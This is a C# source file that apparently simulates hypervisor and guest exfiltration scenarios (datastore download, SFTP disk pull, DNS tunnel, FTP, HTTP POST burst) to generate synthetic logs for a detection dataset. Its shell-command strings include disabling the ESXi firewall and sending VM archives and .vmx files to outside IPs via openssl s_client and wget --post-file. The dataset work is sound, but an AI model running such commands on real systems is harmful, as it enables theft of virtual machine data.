using Det0131.Datasets.Simulation.Formats;
using Det0131.Datasets.Simulation.Machines;

namespace Det0131.Datasets.Simulation.Acts;

/// <summary>Acts on hypervisors and their guests (AN0371).</summary>
internal static class EsxiActs
{
    public static IEnumerable<ActScript> Scripts() =>
    [
        new(new Act("esx-datastore-download", "AN0371", "T1048", "datastore download over HTTPS", "unknown client; the hypervisor answers", "esx01", "185.234.218.20"), "esx01", [6], DatastoreDownload),
        new(new Act("esx-shell-openssl", "AN0371", "T1048.002", "vim-cmd snapshot, openssl s_client", "from the shell", "esx02", "89.33.8.12"), "esx02", [3], ShellOpenssl),
        new(new Act("esx-guest-dns", "AN0371", "T1048", "DNS tunnel of a guest", "dnscat2: long-lived, mostly idle", "vm-wiki", "lanprobe.test"), "vm-wiki", [1], GuestDns),
        new(new Act("esx-guest-ftp", "AN0371", "T1048.003", "FTP of a guest", "a protocol the guest never spoke", "vm-erp", "103.75.190.4"), "vm-erp", [4], GuestFtp),
        new(new Act("esx-post-burst", "AN0371", "T1048.003", "HTTP POST burst", "one file a request, from the shell", "esx01", "87.120.80.10"), "esx01", [2], PostBurst),
        new(new Act("esx-sftp-pull", "AN0371", "T1048.002", "SFTP pull of a disk", "sftp-server counts the bytes", "esx02", "95.163.40.77"), "esx02", [5], SftpPull),
    ];

    private static void DatastoreDownload(ActStage stage)
    {
        var at = stage.At(2.2);
        var esxi = stage.Logs.Esxi;
        esxi.Hostd(stage.Host, at, "sub=Vimsvc.ha-eventmgr opID=5f21c0aa sid=5295b1c0 user=root", "Event 90211 : User root@185.234.218.20 logged in as pyvmomi Python/3.12 (Linux; 6.8.0)");
        foreach (var (guest, bytes) in new[] { ("vm-erp", 21_400_000_000L), ("vm-crm", 16_800_000_000L) })
        {
            at += 60_000_000;
            esxi.Hostd(stage.Host, at, "sub=Vimsvc.ha-eventmgr opID=5f21c0b3 sid=5295b1c0 user=root", $"File download from path '[datastore1] {guest}/{guest}-flat.vmdk' was initiated from 'pyvmomi Python/3.12@185.234.218.20'");
            stage.Machine.Accept("185.234.218.20", stage.Random.Between(40_000, 60_000), at + 200_000, 443, "ssl", new Transfer(bytes / 400, bytes, bytes / 12e6));
            at += (long)(bytes / 12.0);
        }
    }

    private static void ShellOpenssl(ActStage stage)
    {
        const int Session = 1_061_204;
        var esxi = stage.Logs.Esxi;
        var at = stage.At(0.9);
        esxi.Sshd(stage.Host, at, Session, "Accepted keyboard-interactive/pam for root from 10.20.10.61 port 52114 ssh2");
        string[] commands =
        [
            "esxcli network firewall set --enabled false",
            "vim-cmd vmsvc/getallvms",
            "vim-cmd vmsvc/snapshot.create 14 s1",
            "tar cf /vmfs/volumes/datastore1/.t.tar /vmfs/volumes/datastore1/vm-git",
            "openssl s_client -quiet -connect 89.33.8.12:443 < /vmfs/volumes/datastore1/.t.tar",
        ];
        foreach (var command in commands)
        {
            at += 75_000_000;
            esxi.Shell(stage.Host, at, Session + 4, "root", command);
        }

        stage.Machine.Connect(null, at + 400_000, new Peer("89.33.8.12", 443, "ssl"), Transfer.Upload(1_240_000_000, 9));
    }

    private static void GuestDns(ActStage stage)
    {
        var at = stage.At(11.3);

        // Idle polls of 49 characters, busy stretches of 232, as dnscat2's were measured.
        foreach (var name in stage.TunnelNames(230, TunnelAlphabet.Hexadecimal, 34, 34, "c.lanprobe.test"))
        {
            stage.Machine.Tunnel(null, at, new DnsExchange(name, stage.Random.Pick(["TXT", "CNAME", "MX"]), "TXT 18 " + stage.Random.Hex(18)));
            at += 40_000_000 + (stage.Random.Between(0, 20_000) * 1_000L);
        }

        foreach (var name in stage.TunnelNames(240, TunnelAlphabet.Hexadecimal, 214, 60, "c.lanprobe.test"))
        {
            stage.Machine.Tunnel(null, at, new DnsExchange(name, stage.Random.Pick(["TXT", "CNAME", "MX"]), "TXT 18 " + stage.Random.Hex(34)));
            at += 300_000 + stage.Random.Between(0, 40_000);
        }
    }

    private static void GuestFtp(ActStage stage)
    {
        var at = stage.At(1.8);
        stage.Machine.Connect(null, at, new Peer("103.75.190.4", 21, "ftp"), new Transfer(900, 2_800, 700));
        for (var i = 0; i < 4; i++)
        {
            stage.Machine.Connect(null, at + 3_000_000 + (i * 160_000_000L), new Peer("103.75.190.4", 51_000 + (i * 11), "ftp-data"), new Transfer(stage.Random.Between(700_000_000, 820_000_000), 0, 150));
        }
    }

    private static void PostBurst(ActStage stage)
    {
        const int Session = 1_062_870;
        var at = stage.At(3.6);
        stage.Logs.Esxi.Shell(stage.Host, at, Session, "root", "esxcli network firewall ruleset set -e true -r httpClient");
        stage.Logs.Esxi.Shell(stage.Host, at + 8_000_000, Session, "root", "for f in /vmfs/volumes/datastore1/*/*.vmx; do wget -q --post-file=$f http://87.120.80.10/p; done");
        for (var i = 0; i < 90; i++)
        {
            var bytes = stage.Random.Bytes(64_000, 0.8);
            stage.Machine.Connect(null, at + 8_200_000 + (i * 2_400_000L), new Peer("87.120.80.10", 80, "http"), Transfer.Upload(bytes), new HttpCall("POST", "/p", "Wget", bytes, 2));
        }
    }

    private static void SftpPull(ActStage stage)
    {
        const int Session = 1_064_551;
        const long Bytes = 12_884_901_888;
        var at = stage.At(4.4);
        var port = stage.Random.Between(40_000, 60_000);
        stage.Logs.Esxi.Sshd(stage.Host, at, Session, $"Accepted keyboard-interactive/pam for root from 95.163.40.77 port {port} ssh2");
        stage.Logs.Esxi.SftpServer(stage.Host, at + 4_000_000, Session + 2, "open \"/vmfs/volumes/datastore1/vm-git/vm-git-flat.vmdk\" flags READ mode 0666");
        stage.Machine.Accept("95.163.40.77", port, at - 300_000, 22, "ssh", new Transfer(Bytes / 300, Bytes, 1300));
        stage.Logs.Esxi.SftpServer(stage.Host, at + 1_290_000_000, Session + 2, $"close \"/vmfs/volumes/datastore1/vm-git/vm-git-flat.vmdk\" bytes read {Bytes} written 0");
    }
}
